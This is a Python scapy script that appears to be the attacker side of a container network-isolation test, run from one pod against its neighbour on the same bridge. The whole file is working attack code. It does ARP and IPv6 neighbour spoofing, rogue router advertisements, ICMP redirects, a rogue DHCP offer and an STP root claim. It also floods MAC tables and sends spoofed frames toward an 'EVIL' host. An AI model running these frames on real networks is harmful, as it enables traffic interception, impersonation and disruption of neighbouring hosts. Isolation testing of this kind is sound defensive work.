#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A hostile root in a pod, against the pod beside it on the same bridge.

usage: neighbour.py IFACE VICTIM4 VICTIM6 VICTIM-MAC GATEWAY4 GATEWAY6 GATEWAY-MAC EVIL4 EVIL6

Speaks in the victim's name and in the gateway's, to everybody and to the victim alone. Prints one line
a class, "sent NAME COUNT". Debian's own python3, since scapy is one of its packages.
"""
import logging
import sys

logging.getLogger("scapy").setLevel(logging.ERROR)
from scapy.all import (  # noqa: E402
    ARP, BOOTP, DHCP, ICMP, IP, STP, TCP, UDP, Dot3, Dot1Q, Ether, ICMPv6EchoRequest, ICMPv6MLReport, ICMPv6ND_NA,
    ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6ND_Redirect, ICMPv6NDOptDstLLAddr, ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr, IPv6, LLC, Raw, conf, get_if_addr, get_if_hwaddr, in6_getifaddr)

IFACE, VICTIM4, VICTIM6, VICTIM_MAC, GATE4, GATE6, GATE_MAC, EVIL4, EVIL6 = sys.argv[1:10]
conf.verb = 0
conf.iface = IFACE
mac = get_if_hwaddr(IFACE)
mine4 = get_if_addr(IFACE)
mine6 = next(a for a, scope, i in in6_getifaddr() if i == IFACE and scope == 0)
local6 = next((a for a, scope, i in in6_getifaddr() if i == IFACE and scope == 0x20), "fe80::1")
sock = conf.L2socket(iface=IFACE)
ALL, ALL6 = "ff:ff:ff:ff:ff:ff", "33:33:00:00:00:01"
SECRET = Raw(b"SECRET" * 8)
SYN = TCP(sport=40001, dport=80, flags="S")


def arp(op, psrc, hwsrc=mac, src=mac, dst=ALL, pdst=VICTIM4, hwdst="00:00:00:00:00:00"):
    return Ether(src=src, dst=dst) / ARP(op=op, psrc=psrc, hwsrc=hwsrc, pdst=pdst, hwdst=hwdst)


def na(target, lladdr, src=mac, dst=ALL6, ip=local6, ipdst="ff02::1"):
    return (Ether(src=src, dst=dst) / IPv6(src=ip, dst=ipdst, hlim=255) /
            ICMPv6ND_NA(tgt=target, R=1, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=lladdr))


def ns(target, lladdr, ip, src=mac, dst=ALL6):
    return (Ether(src=src, dst=dst) / IPv6(src=ip, dst="ff02::1", hlim=255) /
            ICMPv6ND_NS(tgt=target) / ICMPv6NDOptSrcLLAddr(lladdr=lladdr))


def classes():
    yield "victims-address", [
        Ether(src=s, dst=GATE_MAC) / p for s in (mac, VICTIM_MAC) for p in (
            IP(src=VICTIM4, dst=EVIL4) / SYN, IPv6(src=VICTIM6, dst=EVIL6) / SYN,
            IP(src=VICTIM4, dst=EVIL4) / UDP(dport=53) / SECRET)]
    yield "gateways-address", [
        Ether(src=s, dst=d) / p for s in (mac, GATE_MAC) for d in (GATE_MAC, VICTIM_MAC) for p in (
            IP(src=GATE4, dst=EVIL4) / SYN, IP(src=GATE4, dst=VICTIM4) / SYN, IPv6(src=GATE6, dst=VICTIM6) / SYN)]
    yield "victims-mac", [
        Ether(src=VICTIM_MAC, dst=GATE_MAC) / IP(src=mine4, dst=EVIL4) / SYN,
        Ether(src=VICTIM_MAC, dst=ALL) / Raw(b"\x00" * 60), Ether(src=GATE_MAC, dst=ALL, type=0x9000) / SECRET,
        Ether(src=VICTIM_MAC, dst=ALL6) / IPv6(src=mine6, dst="ff02::1") / ICMPv6EchoRequest()]
    yield "arp", [
        arp(1, VICTIM4), arp(2, VICTIM4), arp(2, GATE4), arp(2, GATE4, dst=VICTIM_MAC, hwdst=VICTIM_MAC),
        arp(1, GATE4, pdst=GATE4), arp(2, VICTIM4, pdst=VICTIM4), arp(2, VICTIM4, dst=GATE_MAC, pdst=GATE4),
        arp(2, mine4, hwsrc=GATE_MAC), arp(1, mine4, hwsrc=VICTIM_MAC), arp(2, GATE4, hwsrc=GATE_MAC, src=GATE_MAC),
        arp(2, VICTIM4, hwsrc=VICTIM_MAC, src=VICTIM_MAC, dst=GATE_MAC), arp(1, "0.0.0.0", pdst=VICTIM4),
        arp(3, mine4), arp(9, VICTIM4), Ether(src=mac, dst=ALL) / Dot1Q(vlan=0) / ARP(op=2, psrc=GATE4, hwsrc=mac)]
    yield "neighbour-discovery", [
        na(VICTIM6, mac), na(GATE6, mac), na(GATE6, mac, dst=VICTIM_MAC, ipdst=VICTIM6), na(VICTIM6, mac, ip=VICTIM6),
        na(GATE6, mac, ip=GATE6), na(mine6, VICTIM_MAC), na(mine6, GATE_MAC), na(VICTIM6, mac, ip=mine6, dst=GATE_MAC, ipdst=GATE6),
        ns(GATE6, mac, VICTIM6), ns(VICTIM6, mac, GATE6), ns(GATE6, VICTIM_MAC, mine6), ns(VICTIM6, mac, "::")]
    yield "routers", [
        Ether(src=mac, dst=ALL6) / IPv6(src=s, dst="ff02::1", hlim=255) / ICMPv6ND_RA(routerlifetime=1800) /
        ICMPv6NDOptSrcLLAddr(lladdr=mac) / ICMPv6NDOptPrefixInfo(prefix="2001:db8:666::", prefixlen=64)
        for s in (local6, "fe80::1", mine6)] + [
        Ether(src=mac, dst=VICTIM_MAC) / IPv6(src="fe80::1", dst=VICTIM6, hlim=255) /
        ICMPv6ND_Redirect(tgt=mine6, dst=EVIL6),
        Ether(src=mac, dst=VICTIM_MAC) / IP(src=GATE4, dst=VICTIM4) / ICMP(type=5, code=1, gw=mine4) /
        IP(src=VICTIM4, dst=EVIL4) / SYN]
    yield "dhcp", [
        Ether(src=mac, dst=ALL) / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67) /
        BOOTP(op=1) / DHCP(options=[("message-type", "discover"), "end"]),
        Ether(src=mac, dst=ALL) / IP(src=mine4, dst="255.255.255.255") / UDP(sport=67, dport=68) /
        BOOTP(op=2, yiaddr="10.66.6.6") / DHCP(options=[("message-type", "offer"), "end"])]
    yield "to-the-victim", [
        Ether(src=mac, dst=VICTIM_MAC) / p for p in (
            IP(src=mine4, dst=VICTIM4) / SYN, IPv6(src=mine6, dst=VICTIM6) / SYN, IP(src=mine4, dst=VICTIM4) / ICMP(),
            IPv6(src=mine6, dst=VICTIM6) / ICMPv6EchoRequest(), IP(src=mine4, dst=VICTIM4) / UDP(dport=9) / SECRET,
            IP(src=mine4, dst=EVIL4) / SYN)] + [
        Ether(src=mac, dst=d, type=0x88b5) / SECRET for d in (VICTIM_MAC, ALL, "01:80:c2:00:00:0e")]
    yield "bridge", [
        Dot3(src=mac, dst="01:80:c2:00:00:00") / LLC() / STP(rootid=0, bridgeid=0),
        Ether(src=mac, dst=ALL) / Dot1Q(vlan=1) / IP(src=mine4, dst=VICTIM4) / ICMP(),
        Ether(src=mac, dst="33:33:00:00:00:16") / IPv6(src=local6, dst="ff02::16") / ICMPv6MLReport(mladdr="ff02::6"),
        Ether(src=mac, dst="01:00:5e:00:00:fb") / IP(src=mine4, dst="224.0.0.251") / UDP(sport=5353, dport=5353) / SECRET]
    # more addresses than the bridge would like to remember
    yield "many-macs", [Ether(src=f"02:66:00:00:{i >> 8:02x}:{i & 255:02x}", dst=ALL) / IP(src=mine4, dst=EVIL4) / SYN
                        for i in range(1500)]


for name, frames in classes():
    sent = 0
    for frame in frames:
        try:
            sock.send(frame)
            sent += 1
        except OSError:
            pass
    print("sent", name, sent)
